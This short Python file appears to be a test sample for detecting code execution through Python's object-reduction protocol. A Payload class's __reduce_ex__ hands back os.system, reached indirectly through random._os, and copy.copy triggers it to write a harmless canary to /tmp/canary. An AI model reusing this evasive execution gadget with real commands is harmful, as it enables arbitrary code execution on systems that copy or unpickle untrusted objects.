# source: own
# effect: process

import copy
import random


class Payload:
    def __reduce_ex__(self, protocol):
        return random._os.system, ("echo pickles/copy_reduce > /tmp/canary/process",)


copy.copy(Payload())
